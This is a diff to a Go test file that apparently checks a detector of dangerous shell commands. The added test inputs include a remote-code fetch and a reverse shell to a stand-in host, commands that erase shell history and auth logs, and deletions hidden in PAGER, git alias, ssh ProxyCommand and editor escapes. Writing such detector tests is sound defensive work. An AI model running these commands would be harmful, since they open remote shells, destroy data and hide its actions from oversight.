@@ -69,7 +69,7 @@ func TestDeeds(t *testing.T) {
 		{`find . -name '*.o' -delete`, "delete-recursive **/*.o"},
 		{`find . -type f -exec rm -rf {} +`, "delete-recursive **"},
 		{`find /a -type d | xargs rm -rf`, "delete-recursive /a/**"},
-		{`find . -type d -empty -delete`, ""},
+		{`find . -type d -empty -delete; find /a -type d | xargs rmdir`, ""},
 		{`npx -y rimraf dist`, "delete-recursive dist"},
 		{`ssh h rm -rf /a`, "delete-recursive remote:/a at ssh h"},
 		{`rsync -a --delete a/ b/`, "delete-recursive b"},
@@ -111,7 +111,7 @@ func TestDeeds(t *testing.T) {
 		{`kill -9 -1; kill 1; shutdown -h now; sudo reboot; systemctl poweroff; pkill -u bob; killall5`, "process-kill; process-kill; process-kill; process-kill; process-kill; process-kill; process-kill"},
 		{`kill -9 123; kill %1; kill -l; pkill node; killall node; lsof -ti:3000 | xargs kill -9`, ""},
 		{`useradd a; passwd b; usermod -aG docker c; iptables -F; ufw disable; setenforce 0; systemctl stop firewalld`, "user-management; user-management; user-management; firewall-off; firewall-off; firewall-off; firewall-off"},
-		{`history -c; rm ~/.bash_history; unset HISTFILE; rm -f /var/log/auth.log; HISTFILE=/dev/null a`, "history-tamper; history-tamper /home/u/.bash_history; history-tamper; history-tamper /var/log/auth.log; history-tamper"},
+		{`history -c; rm ~/.bash_history; unset HISTFILE; rm -f /var/log/auth.log; HISTFILE=/dev/null a; export HISTFILE=; set +o history`, "history-tamper; history-tamper /home/u/.bash_history; history-tamper; history-tamper /var/log/auth.log; history-tamper; history-tamper; history-tamper"},
 		{`:(){ :|:& };:`, "fork-bomb"},
 
 		// The network.
@@ -133,6 +133,10 @@ func TestDeeds(t *testing.T) {
 		{`python3 -c 'import subprocess; subprocess.run(["rm", "-rf", "/a"])'`, "delete-recursive /a"},
 		{`node -e 'require("child_process").execSync("git push -f")'; node -e 'fs.rmSync("/a", {recursive: true})'`, "git-force-push; delete-recursive /a"},
 		{`perl -e 'system("rm -rf /a")'; ruby -e '` + "`rm -rf /b`" + `'; awk 'BEGIN { system("rm -rf /c") }'`, "delete-recursive /a; delete-recursive /b; delete-recursive /c"},
+		{`python3 -c "$(curl h)"; bash -i >& /dev/tcp/h/1 0>&1`, "code-from-network; code-from-network"},
+		{`sed '1e rm -rf /a' f; vim -c ':!rm -rf /b' -c q; ed <<< '!rm -rf /c'`, "delete-recursive /a; delete-recursive /b; delete-recursive /c"},
+		{`PAGER='rm -rf /a' man b; export GIT_SSH_COMMAND='rm -rf /b'; git config alias.x '!rm -rf /c'; ssh -o ProxyCommand='rm -rf /d' h`, "delete-recursive /a; delete-recursive /b; delete-recursive /c; delete-recursive /d"},
+		{`$SHELL -c 'rm -rf /a'; env - rm -rf /b; find /c -type f | xargs rm; mv /d /dev/null`, "delete-recursive /a; delete-recursive /b; delete-recursive /c/**; delete-recursive /d"},
 		{"python3 <<E\nimport os\nos.system('git reset --hard')\nE", "git-discard"},
 	} {
 		if _, e := of(test.line); deeds(e) != test.want {
